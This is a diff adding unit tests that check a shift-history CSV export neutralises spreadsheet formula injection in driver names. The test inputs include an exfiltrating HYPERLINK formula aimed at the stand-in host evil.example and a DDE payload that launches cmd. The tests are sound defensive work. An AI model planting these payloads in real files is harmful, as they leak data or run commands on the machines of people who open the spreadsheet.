@@ -44,3 +44,25 @@ describe('historyCsvFileName', () => {
     expect(historyCsvFileName(new Date(2026, 10, 21, 23, 30))).toBe('historial-turnos-2026-11-21.csv');
   });
 });
+
+describe('historyCsv with formula payloads in names (CSV injection)', () => {
+  const cellsOf = (shift: Shift) => historyCsv([shift]).split('\r\n')[1].split(';');
+
+  it('writes a driver named like a formula as text: an apostrophe first, so Excel does not run it', () => {
+    const hyperlink = makeShift({ first_name: '=HYPERLINK("http://evil.example/?"&A1,"Ver")', last_name: 'Pérez' });
+    const line = historyCsv([hyperlink]).split('\r\n')[1];
+    expect(line.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"") Pérez";12.531.909-2;`)).toBe(true);
+  });
+
+  it.each([
+    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0 Pérez"],
+    ['@SUM(1+1)', "'@SUM(1+1) Pérez"],
+    ['-2+3', "'-2+3 Pérez"],
+  ])('a driver named %s starts its cell as text', (firstName, cell) => {
+    expect(cellsOf(makeShift({ first_name: firstName }))[0]).toBe(cell);
+  });
+
+  it('keeps an ordinary name and the other cells as they were', () => {
+    expect(cellsOf(makeShift({ first_name: 'Juan' }))[0]).toBe('Juan Pérez');
+  });
+});
